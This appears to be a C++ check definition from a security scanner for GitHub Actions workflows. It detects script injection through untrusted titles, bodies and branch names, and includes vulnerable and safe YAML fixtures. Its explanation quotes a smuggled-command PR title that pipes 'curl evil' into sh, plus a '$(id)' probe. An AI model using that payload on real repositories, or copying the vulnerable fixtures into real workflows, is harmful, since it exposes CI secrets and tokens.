#include "scanners/workflows/findings/code_finding.h"
#include "scanners/workflows/fixes/by_environment.h"

namespace assay::workflows::checks {

namespace {

void run(const Subject& subject, Reporter& out) {
  report_code_sinks(subject, out, CodeWay::direct, fixes::offer_environment);
}

}  // namespace

extern const Check expression_in_script = {
    .id = "expression-in-script",
    .title = "Text that others write becomes code",
    .severity = Severity::high,
    .confidence = Confidence::high,
    .what =
        "`${{ }}` with a title, body, branch name, commit message or free input in a `run:`, in an input that an "
        "action "
        "runs as code (`script` of github-script), or a variable with such a text behind `eval` and `bash -c`. Also by "
        "way of `env`. Numbers, commits, enumerated values and inputs with a type are no finding; how severe it is "
        "follows from who writes the text and which events reach the step.",
    .why =
        "The expression is replaced before the shell sees the script. A pull request named `\"; curl evil | sh; #` "
        "runs "
        "as a part of it, with the job's token and secrets.",
    .reproduce = "Open an issue or pull request whose title is `$(id)`, and read the log of the step.",
    .fix =
        "Hand it over by the environment: `env: {TITLE: '${{ github.event.issue.title }}'}` and `\"$TITLE\"` in the "
        "script; in github-script `process.env.TITLE` or `context.payload`.",
    .avoid =
        "Do not put quotes around the expression: a quote in the text ends them. Do not use `${{ env.TITLE }}`: it is "
        "replaced the same way.",
    .references = {"https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-"
                   "script-injection-attacks",
                   "https://securitylab.github.com/resources/github-actions-untrusted-input/"},
    .zizmor = {"template-injection"},
    .bad = {"on: issues\njobs:\n  a:\n    runs-on: x\n    steps: [{run: 'echo ${{ github.event.issue.title }}'}]\n",
            R"(on: pull_request_target
jobs:
  a:
    runs-on: x
    steps:
      - uses: actions/github-script@v8
        with:
          script: return '${{ github.head_ref }}'
)",
            R"(on: issue_comment
env: {BODY: '${{ github.event.comment.body }}'}
jobs:
  a:
    runs-on: x
    steps: [{run: 'echo ${{ env.BODY }}'}]
)",
            R"(on: {workflow_dispatch: {inputs: {version: {type: string}}}}
jobs:
  a: {runs-on: x, steps: [{run: 'make release VERSION=${{ inputs.version }}'}]}
)",
            R"(on: pull_request
jobs:
  a:
    runs-on: x
    steps:
      - run: eval "deploy $TITLE"
        env: {TITLE: '${{ github.event.pull_request.title }}'}
)",
            R"(on: issues
jobs:
  a: {runs-on: x, steps: [{run: "echo '${{ toJSON(github.event.issue) }}'"}]}
)",
            R"(on: pull_request_target
jobs:
  a: {runs-on: x, steps: [{run: "echo ${{ github.event.action == 'opened' && github.head_ref || 'none' }}"}]}
)",
            R"(on: discussion
jobs:
  a: {runs-on: x, steps: [{run: "echo ${{ format('{0}!', github.event.discussion.title) }}", shell: pwsh}]}
)"},
    .good = {R"(on: issues
jobs:
  a:
    runs-on: x
    steps:
      - run: echo "$TITLE"
        env: {TITLE: '${{ github.event.issue.title }}'}
)",
             "on: push\njobs:\n  a: {runs-on: x, steps: [{run: 'echo ${{ github.event.issue.title }}'}]}\n",
             R"(on: pull_request_target
jobs:
  a:
    runs-on: x
    steps:
      - run: echo ${{ github.event.pull_request.number }} ${{ github.event.pull_request.head.sha }} ${{ github.actor }}
      - run: echo ${{ contains(github.event.pull_request.title, 'x') }} ${{ github.event.pull_request.html_url }}
)",
             R"(on: {workflow_dispatch: {inputs: {dry: {type: boolean}, to: {type: choice, options: [a, b]}}}}
jobs:
  a: {runs-on: x, steps: [{run: 'make ${{ inputs.dry }} ${{ github.event.inputs.to }}'}]}
)",
             R"(on: {push: {branches: [main]}}
jobs:
  a: {runs-on: x, steps: [{run: 'echo ${{ github.ref_name }} ${{ matrix.os }}'}], strategy: {matrix: {os: [a, b]}}}
)",
             R"(on: [push, issues]
jobs:
  a:
    runs-on: x
    if: github.event_name == 'push'
    steps: [{run: 'echo ${{ github.event.issue.title }}'}]
)",
             "on: push\nenv: {A: b}\njobs:\n  a: {runs-on: x, steps: [{run: 'echo ${{ env.A }} ${{ secrets.X }}'}]}\n",
             R"(on: pull_request
jobs:
  a:
    runs-on: x
    steps: [{uses: actions/checkout@v6, with: {ref: '${{ github.head_ref }}'}}]
)"},
    .run = run,
};

}  // namespace assay::workflows::checks
